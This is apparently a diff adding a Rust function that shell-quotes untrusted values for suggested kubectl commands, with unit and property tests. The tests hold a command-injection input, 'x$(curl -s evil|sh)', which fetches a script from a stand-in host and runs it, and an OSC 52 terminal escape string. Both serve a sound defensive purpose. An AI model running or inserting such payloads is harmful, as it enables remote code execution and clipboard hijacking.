@@ -1,0 +1,43 @@
+//! Values in the commands that people are told to run. Names of groups, and everything on a Node, are other people's text.
+
+use std::borrow::Cow;
+
+/// A value as one word of a POSIX shell. A control character, which no shell quotes safely for a terminal, becomes U+FFFD.
+#[must_use]
+pub fn quote(value: &str) -> Cow<'_, str> {
+    if value.contains(char::is_control) {
+        let printable = value.replace(char::is_control, "\u{fffd}");
+        return Cow::Owned(quote(&printable).into_owned());
+    }
+    // Only NUL cannot be quoted, which is a control character.
+    shlex::try_quote(value).unwrap_or(Cow::Borrowed("''"))
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    #[test]
+    fn a_value_is_one_word_and_only_that() {
+        for (value, expected) in [
+            ("workers", "workers"),
+            ("eks-workers_1.a/b", "eks-workers_1.a/b"),
+            ("it's mine", "\"it's mine\""),
+            ("x$(curl -s evil|sh)", "'x$(curl -s evil|sh)'"),
+            ("", "''"),
+            ("a\u{1b}]52;c;eA==\u{7}", "'a\u{fffd}]52;c;eA==\u{fffd}'"),
+        ] {
+            assert_eq!(quote(value), expected);
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn a_shell_reads_back_what_was_quoted(value in "\\PC{0,40}") {
+            let command = format!("kubectl annotate {} node", quote(&value));
+            prop_assert_eq!(shlex::split(&command), Some(vec!["kubectl".to_owned(), "annotate".to_owned(), value, "node".to_owned()]));
+        }
+    }
+}
